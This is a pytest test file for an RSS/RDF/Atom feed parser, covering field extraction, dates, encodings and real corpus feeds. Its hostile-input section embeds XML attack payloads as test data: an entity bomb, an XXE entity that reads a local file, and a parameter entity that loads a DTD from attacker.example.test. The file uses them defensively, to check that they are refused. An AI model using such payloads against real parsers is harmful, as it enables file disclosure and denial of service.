"""The RSS/RDF/Atom adapter: invented feeds in the test, then the real feeds in the shared corpus."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from etl.sources import feeds
from etl.sources.feeds import FeedError, parse_items
from etl.sources.records import Item, SourceError, SourceHints
from tests.hostile import BILLION_LAUGHS

CORPORA = Path(__file__).resolve().parents[2] / "shared" / "corpora"
RSS_FIXTURES = CORPORA / "rss_feed_fixtures"
# Entries per file, as listed in rss_feed_fixtures/SOURCE.md.
EXPECTED_ITEMS = {
    "guardian.rss": 55,
    "encoding.rss": 40,
    "uolNoticias.rss": 15,
    "heise.atom": 15,
    "rss-1.rss": 69,
    "content-encoded.rss": 7,
    "customfields.rss": 15,
}

HINTS = SourceHints(uri="https://feeds.example.test/news.xml")

RSS_WITH_CONTENT = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
  <channel>
    <title>Dnipro Evening Post</title>
    <link>https://dnipro-post.example.test/</link>
    <language>en-US</language>
    <lastBuildDate>Tue, 10 Jun 2025 09:00:00 +0300</lastBuildDate>
    <item>
      <title>Grain corridor &amp; ports: &lt;b&gt;insurers&lt;/b&gt; return</title>
      <link>https://dnipro-post.example.test/2025/06/grain-corridor</link>
      <pubDate>Tue, 10 Jun 2025 04:00:00 +0300</pubDate>
      <category>Economy</category>
      <category>Shipping</category>
      <category>economy</category>
      <description><![CDATA[<p>Underwriters are back in <em>Odesa</em> ports.</p>]]></description>
      <content:encoded><![CDATA[
        <p>Underwriters are back in <em>Odesa</em> ports.</p>
        <p>Premiums fell by a third&nbsp;in May, brokers said.</p>
        <script>alert("not text")</script>
        <ul><li>First point</li><li>Second point</li></ul>
      ]]></content:encoded>
    </item>
    <item>
      <title>Night air raid alert lifted in Zaporizhzhia</title>
      <link>https://dnipro-post.example.test/2025/06/alert-lifted</link>
      <pubDate>Tue, 10 Jun 2025 05:30:00 GMT</pubDate>
      <description>The alert lasted two hours.</description>
    </item>
  </channel>
</rss>
"""

RDF_FEED = b"""<?xml version="1.0" encoding="UTF-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://lviv-bulletin.example.test/">
    <title>Lviv Bulletin</title>
    <link>https://lviv-bulletin.example.test/</link>
    <description>Regional news</description>
    <dc:language>uk</dc:language>
  </channel>
  <item rdf:about="https://lviv-bulletin.example.test/a/1">
    <title>Tram line reopens after repairs</title>
    <link>https://lviv-bulletin.example.test/a/1</link>
    <description>The number 6 tram runs again from Monday.</description>
    <dc:date>2025-03-03T08:15:00+02:00</dc:date>
    <dc:subject>Transport</dc:subject>
  </item>
  <item rdf:about="https://lviv-bulletin.example.test/a/2">
    <title>Library extends opening hours</title>
    <link>https://lviv-bulletin.example.test/a/2</link>
    <dc:date>2025-03-03T09:00:00+02:00</dc:date>
  </item>
</rdf:RDF>
"""

ATOM_FEED = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de">
  <title type="text">Kharkiv Tagesblatt</title>
  <id>urn:example:kharkiv-tagesblatt</id>
  <updated>2025-01-15T12:00:00+01:00</updated>
  <link rel="alternate" href="https://kharkiv-tagesblatt.example.test/"/>
  <entry>
    <title type="html">Stromnetz: &lt;i&gt;Reparaturen&lt;/i&gt; abgeschlossen</title>
    <id>urn:example:entry:1</id>
    <link rel="alternate" href="https://kharkiv-tagesblatt.example.test/strom"/>
    <published>2025-01-15T10:30:00+01:00</published>
    <updated>2025-01-15T11:00:00+01:00</updated>
    <summary>Die Techniker sind fertig.</summary>
    <content type="html">&lt;p&gt;Die Techniker sind fertig.&lt;/p&gt;&lt;p&gt;Alle Bezirke haben wieder Strom, teilte die Stadtverwaltung mit.&lt;/p&gt;</content>
    <category term="Energie"/>
  </entry>
  <entry>
    <title>Nur aktualisiert</title>
    <id>urn:example:entry:2</id>
    <link rel="alternate" href="https://kharkiv-tagesblatt.example.test/nur"/>
    <updated>2025-01-15T11:45:00Z</updated>
    <summary>Eine kurze Meldung ohne Volltext.</summary>
  </entry>
</feed>
"""


def rss(*items: str, channel_extra: str = "", title: str = "Poltava Courier") -> bytes:
    """A small RSS 2.0 document around `items` (each an <item> body)."""
    body = "".join(f"<item>{item}</item>" for item in items)
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel>'
        f"<title>{title}</title><link>https://poltava-courier.example.test/</link>"
        f"{channel_extra}{body}</channel></rss>"
    ).encode()


def only_record(items: list[Item], index: int = 0):
    item = items[index]
    assert item.error is None, item.error
    assert item.record is not None
    return item.record


# --- invented feeds -------------------------------------------------------------------------


def test_rss2_with_content_encoded_gives_full_text_and_fields() -> None:
    items = parse_items(RSS_WITH_CONTENT, HINTS)
    assert [item.index for item in items] == [0, 1]
    record = only_record(items)
    assert record.headline == "Grain corridor & ports: insurers return"
    assert record.url == "https://dnipro-post.example.test/2025/06/grain-corridor"
    assert record.outlet == "Dnipro Evening Post"
    assert record.lang == "en-us"
    assert record.tags == ("economy", "shipping")
    assert record.lead == "Underwriters are back in Odesa ports."
    assert record.body == (
        "Underwriters are back in Odesa ports.\n\n"
        "Premiums fell by a third in May, brokers said.\n\n"
        "First point\n\nSecond point"
    )
    assert "alert" not in record.body


def test_entry_without_full_text_is_a_stub_with_a_lead() -> None:
    record = only_record(parse_items(RSS_WITH_CONTENT, HINTS), 1)
    assert record.lead == "The alert lasted two hours."
    assert record.body == ""
    assert record.tags == ()


def test_configured_outlet_wins_over_the_feed_title() -> None:
    hints = SourceHints(uri=HINTS.uri, outlet="Dnipro Post")
    assert only_record(parse_items(RSS_WITH_CONTENT, hints)).outlet == "Dnipro Post"


def test_feed_without_title_is_named_by_its_host() -> None:
    data = rss(
        "<title>Bridge repaired</title><pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate>",
        title="",
    )
    assert only_record(parse_items(data, HINTS)).outlet == "poltava-courier.example.test"


def test_rss1_rdf_reads_dc_date_subject_and_language() -> None:
    items = parse_items(RDF_FEED, HINTS)
    assert len(items) == 2
    first, second = only_record(items, 0), only_record(items, 1)
    assert first.headline == "Tram line reopens after repairs"
    assert first.published_at == datetime(2025, 3, 3, 6, 15, tzinfo=UTC)
    assert first.lead == "The number 6 tram runs again from Monday."
    assert first.tags == ("transport",)
    assert first.lang == "uk"
    assert second.lead == "" and second.body == ""


def test_atom_content_beyond_the_summary_is_the_body() -> None:
    items = parse_items(ATOM_FEED, HINTS)
    record = only_record(items)
    assert record.headline == "Stromnetz: Reparaturen abgeschlossen"
    assert record.outlet == "Kharkiv Tagesblatt"
    assert record.published_at == datetime(2025, 1, 15, 9, 30, tzinfo=UTC)  # published, not updated
    assert record.lead == "Die Techniker sind fertig."
    assert record.body == (
        "Die Techniker sind fertig.\n\nAlle Bezirke haben wieder Strom, teilte die Stadtverwaltung mit."
    )
    assert record.tags == ("energie",)


def test_atom_entry_with_only_updated_uses_it() -> None:
    record = only_record(parse_items(ATOM_FEED, HINTS), 1)
    assert record.published_at == datetime(2025, 1, 15, 11, 45, tzinfo=UTC)
    assert record.body == ""


def test_content_repeating_the_summary_is_not_full_text() -> None:
    data = rss(
        "<title>Ferry resumes</title><pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate>"
        "<description>The ferry runs twice a day.</description>"
        '<content:encoded xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        '<![CDATA[<a href="/x"><img src="/p.jpg" alt="ferry"/></a><p>The ferry runs twice a day.</p>]]>'
        "</content:encoded>"
    )
    record = only_record(parse_items(data, HINTS))
    assert record.lead == "The ferry runs twice a day."
    assert record.body == ""


def test_full_text_without_description_does_not_repeat_as_lead() -> None:
    data = rss(
        "<title>Volunteers rebuild school</title><pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate>"
        '<content:encoded xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        "<![CDATA[<p>First paragraph.</p><p>Second paragraph.</p>]]></content:encoded>"
    )
    record = only_record(parse_items(data, HINTS))
    assert record.lead == ""
    assert record.body == "First paragraph.\n\nSecond paragraph."


def test_read_more_link_is_dropped_from_the_lead() -> None:
    data = rss(
        "<title>Rail timetable</title><pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate>"
        '<description><![CDATA[<p>New trains from July.</p> <a href="/r">Continue reading...</a>]]>'
        "</description>"
    )
    assert only_record(parse_items(data, HINTS)).lead == "New trains from July."


def test_bad_entries_become_item_errors_while_others_parse() -> None:
    data = rss(
        "<title>Has a date</title><pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate>",
        "<title>No date at all</title><description>Text.</description>",
        "<link>https://poltava-courier.example.test/empty</link>"
        "<pubDate>Mon, 02 Jun 2025 11:00:00 GMT</pubDate>",
        "<title>Garbled date</title><pubDate>sometime last week</pubDate>",
    )
    items = parse_items(data, HINTS)
    assert [item.index for item in items] == [0, 1, 2, 3]
    assert items[0].record is not None and items[0].error is None
    assert items[1].record is None and items[1].error == "entry 1: no publication date"
    assert items[2].record is None and items[2].error == "entry 2: no title and no text"
    assert items[3].record is None
    assert items[3].error == "entry 3: unreadable publication date 'sometime last week'"
    assert all(item.raw for item in items)


def test_missing_title_is_derived_from_the_first_sentence() -> None:
    data = rss(
        "<pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate>"
        "<description>Water supply restored in Sumy. Crews worked overnight.</description>"
    )
    record = only_record(parse_items(data, HINTS))
    assert record.headline == "Water supply restored in Sumy."
    assert record.headline_derived is True


@pytest.mark.parametrize(
    ("pub_date", "expected_utc", "expected_local"),
    [
        ("Tue, 10 Jun 2025 04:00:00 +0300", datetime(2025, 6, 10, 1, 0, tzinfo=UTC), None),
        ("Tue, 10 Jun 2025 04:00:00 GMT", datetime(2025, 6, 10, 4, 0, tzinfo=UTC), None),
        ("2025-01-10T04:00:00-05:00", datetime(2025, 1, 10, 9, 0, tzinfo=UTC), None),
        # No offset: the source's zone (Kyiv, UTC+3 in summer) applies and the wall time is kept.
        (
            "10 Jun 2025 04:00:00",
            datetime(2025, 6, 10, 1, 0, tzinfo=UTC),
            datetime(2025, 6, 10, 4, 0),
        ),
        # Zone names dateutil does not know: read as their offsets, never as local time.
        ("Mon, 13 Jan 2025 10:00:00 EST", datetime(2025, 1, 13, 15, 0, tzinfo=UTC), None),
        ("Tue, 10 Jun 2025 10:00:00 EDT", datetime(2025, 6, 10, 14, 0, tzinfo=UTC), None),
        # Month and weekday names in other languages.
        ("Seg, 24 Set 2018 19:42:40 -0300", datetime(2018, 9, 24, 22, 42, 40, tzinfo=UTC), None),
        ("вт, 10 червня 2025 04:00:00 +0300", datetime(2025, 6, 10, 1, 0, tzinfo=UTC), None),
    ],
)
def test_publication_times_keep_their_offsets(
    pub_date: str, expected_utc: datetime, expected_local: datetime | None
) -> None:
    data = rss(f"<title>Timed</title><pubDate>{pub_date}</pubDate>")
    record = only_record(parse_items(data, HINTS))
    assert record.published_at == expected_utc
    assert record.published_local == expected_local
    assert record.source_tz == (HINTS.tz if expected_local else None)


def test_same_feed_twice_gives_identical_raw_bytes() -> None:
    first = parse_items(RSS_WITH_CONTENT, HINTS)
    second = parse_items(RSS_WITH_CONTENT, HINTS)
    assert [item.raw for item in first] == [item.raw for item in second]
    assert len({item.raw for item in first}) == len(first)


def test_raw_is_canonical_json_of_the_entry() -> None:
    raw = parse_items(RSS_WITH_CONTENT, HINTS)[1].raw
    assert raw is not None
    fields = json.loads(raw.decode("utf-8"))
    assert list(fields) == sorted(fields)
    assert fields["title"] == "Night air raid alert lifted in Zaporizhzhia"
    assert fields["published"] == "Tue, 10 Jun 2025 05:30:00 GMT"
    assert (
        raw
        == json.dumps(fields, ensure_ascii=False, sort_keys=True, separators=(",", ":")).encode()
    )


def test_refetched_feed_keeps_each_entry_raw() -> None:
    entry = "<title>Stable entry</title><pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate>"
    newer = "<title>Newer entry</title><pubDate>Mon, 02 Jun 2025 12:00:00 GMT</pubDate>"
    before = parse_items(
        rss(entry, channel_extra="<lastBuildDate>Mon, 02 Jun 2025 10:05:00 GMT</lastBuildDate>"),
        HINTS,
    )
    after = parse_items(
        rss(
            newer,
            entry,
            channel_extra="<lastBuildDate>Mon, 02 Jun 2025 12:05:00 GMT</lastBuildDate>",
        ),
        HINTS,
    )
    assert after[1].raw == before[0].raw
    assert after[1].index == 1


# --- hostile and broken input ---------------------------------------------------------------


@pytest.fixture
def feedparser_untouched(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail the test if the document gets as far as feedparser."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("feedparser was given a document that should have been refused")

    monkeypatch.setattr(feeds.feedparser, "parse", refuse)


@pytest.mark.usefixtures("feedparser_untouched")
def test_entity_bomb_is_refused_before_expansion() -> None:
    with pytest.raises(SourceError, match="declares entity 'lol'"):
        parse_items(BILLION_LAUGHS, HINTS)


@pytest.mark.usefixtures("feedparser_untouched")
def test_external_entity_is_refused_and_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE")
    data = (
        '<?xml version="1.0"?>'
        f'<!DOCTYPE rss [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
        '<rss version="2.0"><channel><title>XXE</title>'
        "<item><title>&leak;</title><pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate></item>"
        "</channel></rss>"
    ).encode()
    with pytest.raises(FeedError, match="external entity 'leak'") as caught:
        parse_items(data, HINTS)
    assert "TOP-SECRET-VALUE" not in str(caught.value)


@pytest.mark.usefixtures("feedparser_untouched")
def test_external_parameter_entity_is_refused() -> None:
    data = (
        b'<?xml version="1.0"?>'
        b'<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example.test/x.dtd"> %remote;]>'
        b'<rss version="2.0"><channel><title>XXE</title></channel></rss>'
    )
    with pytest.raises(FeedError, match="XXE"):
        parse_items(data, HINTS)


@pytest.mark.usefixtures("feedparser_untouched")
def test_entity_declared_in_undeclared_latin1_feed_is_still_refused() -> None:
    data = (
        '<!DOCTYPE rss [<!ENTITY a "caf\u00e9"><!ENTITY b "&a;&a;&a;">]>'
        "<rss><channel><title>&b;</title></channel></rss>"
    ).encode("latin-1")
    with pytest.raises(FeedError, match="entity 'a'"):
        parse_items(data, HINTS)


def test_rss091_doctype_without_entities_is_accepted() -> None:
    data = (
        b'<?xml version="1.0"?>'
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
        b'<rss version="0.91"><channel><title>Old Style</title><link>https://old.example.test/</link>'
        b"<item><title>Still here</title><link>https://old.example.test/1</link>"
        b"<pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate></item></channel></rss>"
    )
    assert only_record(parse_items(data, HINTS)).headline == "Still here"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"<html><body><p>Just a page</p></body></html>", "not a feed"),
        (
            b"<rss><channel><title>Broken</channel",
            r"not a feed: unclosed token: line 1, column \d+",
        ),
        (b"plain words, no markup", "not a feed"),
        (b"   \n", "empty file"),
    ],
)
def test_documents_that_are_not_feeds_are_refused(data: bytes, reason: str) -> None:
    with pytest.raises(SourceError, match=reason):
        parse_items(data, HINTS)


def test_a_valid_feed_without_entries_has_no_items() -> None:
    assert parse_items(rss(), HINTS) == []


# --- encodings ------------------------------------------------------------------------------


def test_undeclared_latin1_feed_decodes_accents() -> None:
    data = rss(
        "<title>Pra\u00e7a da Rep\u00fablica recebe exposi\u00e7\u00e3o</title>"
        "<description>Not\u00edcias da manh\u00e3.</description>"
        "<pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate>",
        title="Not\u00edcias",
    ).replace(b'<?xml version="1.0" encoding="UTF-8"?>', b"")
    record = only_record(parse_items(data.decode().encode("latin-1"), HINTS))
    assert record.headline == "Pra\u00e7a da Rep\u00fablica recebe exposi\u00e7\u00e3o"
    assert record.lead == "Not\u00edcias da manh\u00e3."
    assert record.outlet == "Not\u00edcias"


def test_declared_latin1_feed_decodes_accents() -> None:
    data = (
        '<?xml version="1.0" encoding="ISO-8859-1"?><rss version="2.0"><channel>'
        "<title>Jornal</title><item><title>Cora\u00e7\u00e3o</title>"
        "<pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate></item></channel></rss>"
    ).encode("latin-1")
    assert only_record(parse_items(data, HINTS)).headline == "Cora\u00e7\u00e3o"


def test_undeclared_cp1251_feed_decodes_cyrillic() -> None:
    data = (
        "<rss version='2.0'><channel><title>Новини Полтави</title>"
        "<item><title>Міська рада затвердила бюджет на відновлення шкіл</title>"
        "<description>Депутати підтримали рішення більшістю голосів.</description>"
        "<pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate></item></channel></rss>"
    ).encode("cp1251")
    record = only_record(parse_items(data, HINTS))
    assert record.headline == "Міська рада затвердила бюджет на відновлення шкіл"
    assert record.outlet == "Новини Полтави"


# --- the real feeds in the shared corpus ----------------------------------------------------


@pytest.fixture(scope="module")
def real_feeds() -> dict[str, list[Item]]:
    if not RSS_FIXTURES.is_dir():
        pytest.skip(f"the shared RSS fixtures are not on this machine ({RSS_FIXTURES})")
    return {
        name: parse_items((RSS_FIXTURES / name).read_bytes(), SourceHints())
        for name in EXPECTED_ITEMS
    }


@pytest.mark.parametrize(("name", "count"), sorted(EXPECTED_ITEMS.items()))
def test_real_feed_item_counts_match_source_md(
    real_feeds: dict[str, list[Item]], name: str, count: int
) -> None:
    items = real_feeds[name]
    assert len(items) == count
    assert [item.index for item in items] == list(range(count))


def test_every_real_item_has_a_record_or_an_error(real_feeds: dict[str, list[Item]]) -> None:
    for name, items in real_feeds.items():
        for item in items:
            assert (item.record is None) != (item.error is None), (name, item.index)
            assert item.error is None or item.error.startswith(f"entry {item.index}: ")
            assert item.raw and json.loads(item.raw.decode("utf-8")), (name, item.index)
            if item.record is not None:
                assert item.record.headline, (name, item.index)
                assert item.record.published_at is not None
                assert item.record.published_at.utcoffset().total_seconds() == 0


def test_real_feeds_parse_the_same_twice(real_feeds: dict[str, list[Item]]) -> None:
    for name, items in real_feeds.items():
        again = parse_items((RSS_FIXTURES / name).read_bytes(), SourceHints())
        assert [item.raw for item in again] == [item.raw for item in items], name


def _record_text(items: list[Item]) -> str:
    return "\n".join(
        f"{item.record.outlet}\n{item.record.headline}\n{item.record.lead}\n{item.record.body}"
        for item in items
        if item.record is not None
    )


def test_undeclared_iso_8859_1_feed_keeps_its_accents(real_feeds: dict[str, list[Item]]) -> None:
    items = real_feeds["uolNoticias.rss"]
    text = _record_text(items)
    assert "\ufffd" not in text
    assert "Ã" not in text  # UTF-8 mojibake of Portuguese accents
    assert {"ç", "ã", "á", "é", "í"} <= set(text)
    # Its Portuguese pubDates (weekday and month names) are read, not quarantined.
    assert all(item.record is not None for item in items), [item.error for item in items]
    assert {item.record.published_at.year for item in items if item.record} == {2018}


def test_declared_iso_8859_1_feed_keeps_its_accents(real_feeds: dict[str, list[Item]]) -> None:
    text = _record_text(real_feeds["encoding.rss"])
    assert "\ufffd" not in text and "Ã" not in text
    assert {"ç", "ã", "í", "ú"} <= set(text)


def test_full_text_only_where_the_feed_carries_it(real_feeds: dict[str, list[Item]]) -> None:
    records = {
        name: [item.record for item in items if item.record] for name, items in real_feeds.items()
    }
    assert all(record.body for record in records["content-encoded.rss"])
    # heise's Atom <content> repeats the summary under a picture: still stubs.
    assert not any(record.body for record in records["heise.atom"])
    assert not any(record.body for record in records["guardian.rss"])
    assert all(
        "<" not in record.body and "<p" not in record.lead for r in records.values() for record in r
    )
